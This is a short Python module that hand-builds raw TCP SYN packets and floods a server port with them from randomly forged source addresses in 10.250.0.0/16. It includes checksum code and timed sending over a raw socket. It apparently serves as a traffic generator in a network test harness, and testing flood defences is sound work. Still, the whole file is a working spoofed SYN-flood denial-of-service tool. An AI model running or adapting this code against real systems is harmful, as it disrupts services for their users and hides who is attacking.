"""SYNs with forged source addresses."""

import ipaddress
import socket
import struct
import time

_SYN = 0x02


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _syn(source, destination, source_port, destination_port, seq):
    """An IPv4 packet; the kernel fills in its identification and its header's checksum."""
    header = struct.pack("!HHIIBBHHH", source_port, destination_port, seq, 0, 5 << 4, _SYN, 64240, 0, 0)
    pseudo = source + destination + struct.pack("!HH", socket.IPPROTO_TCP, len(header))
    header = header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]
    fields = (0x45, 0, 20 + len(header), 0, 0, 64, socket.IPPROTO_TCP, 0, source, destination)
    return struct.pack("!BBHHHBBH4s4s", *fields) + header


def flood(rng, host, server_address, port, count, seconds):
    """Send so many SYNs from addresses in 10.250.0.0/16, evenly over this time. Gives how many were sent."""
    raw = host.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    destination, start = ipaddress.IPv4Address(server_address).packed, time.monotonic()
    with raw:
        for number in range(count):
            time.sleep(max(0.0, start + number * seconds / count - time.monotonic()))
            source = bytes([10, 250, rng.randrange(256), rng.randrange(1, 255)])
            ports = rng.randrange(1024, 65536), port
            raw.sendto(_syn(source, destination, *ports, rng.getrandbits(32)), (server_address, 0))
    return count
